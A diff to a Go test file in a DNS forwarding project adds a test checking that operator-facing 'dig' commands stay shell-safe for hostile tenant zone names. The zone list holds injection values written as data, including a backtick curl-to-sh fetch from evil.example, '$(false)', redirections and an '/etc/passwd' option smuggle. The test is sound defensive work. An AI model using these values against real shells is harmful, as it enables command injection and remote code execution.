@@ -6,6 +6,7 @@ import (
 	"context"
 	"fmt"
 	"net/netip"
+	"os/exec"
 	"strings"
 	"testing"
 
@@ -15,6 +16,7 @@ import (
 
 	"github.com/puntdns/puntdns/internal/cachekey"
 	"github.com/puntdns/puntdns/internal/control/api"
+	"github.com/puntdns/puntdns/internal/explain"
 	"github.com/puntdns/puntdns/internal/origin"
 	"github.com/puntdns/puntdns/internal/ovn"
 )
@@ -259,6 +261,35 @@ func TestLoop(t *testing.T) {
 			}
 			if got != tt.want || x.looped != tt.looped {
 				t.Errorf("%q, looped %v, want %q, %v", got, x.looped, tt.want, tt.looped)
+			}
+		})
+	}
+}
+
+// What an operator is to paste into a shell asks the server for the zone, whatever the tenant has named
+// it.
+func TestExplainedCommands(t *testing.T) {
+	r := newRig(t, "")
+	for _, zone := range []string{
+		"corp.example.", "`{curl,evil.example/x}|sh`.corp.", "a|nonexistent.", "a>/nonexistent/x.", "$(false).corp.", "it's.corp.", "a b.corp.", "-f/etc/passwd.", "@9.9.9.9.", "+tcp.",
+	} {
+		t.Run(zone, func(t *testing.T) {
+			r.forward("red", zone+"=10.99.0.1:5353") // which the policy refuses
+			of := ""
+			for z := range r.source.Snapshot().NetworkByName("red").Forwards.All() {
+				of = z.Zone
+			}
+			e := explain.New()
+			defer e.End()
+			r.send(e.Context(r.as("red")), new(dns.Msg).SetQuestion("www."+of, dns.TypeA), false)
+			found := e.Report().Findings
+			if of == "" || len(found) != 1 || len(found[0].Commands) != 1 {
+				t.Fatalf("zone %q: %+v", of, found)
+			}
+			line, ok := strings.CutPrefix(found[0].Commands[0], "dig ")
+			out, err := exec.Command("sh", "-c", "printf '%s\\n' "+line).Output()
+			if want := "@10.99.0.1\n-p\n5353\n-q\n" + of + "\n"; !ok || err != nil || string(out) != want {
+				t.Errorf("%s: the shell has %q, %v, want %q", line, out, err, want)
 			}
 		})
 	}
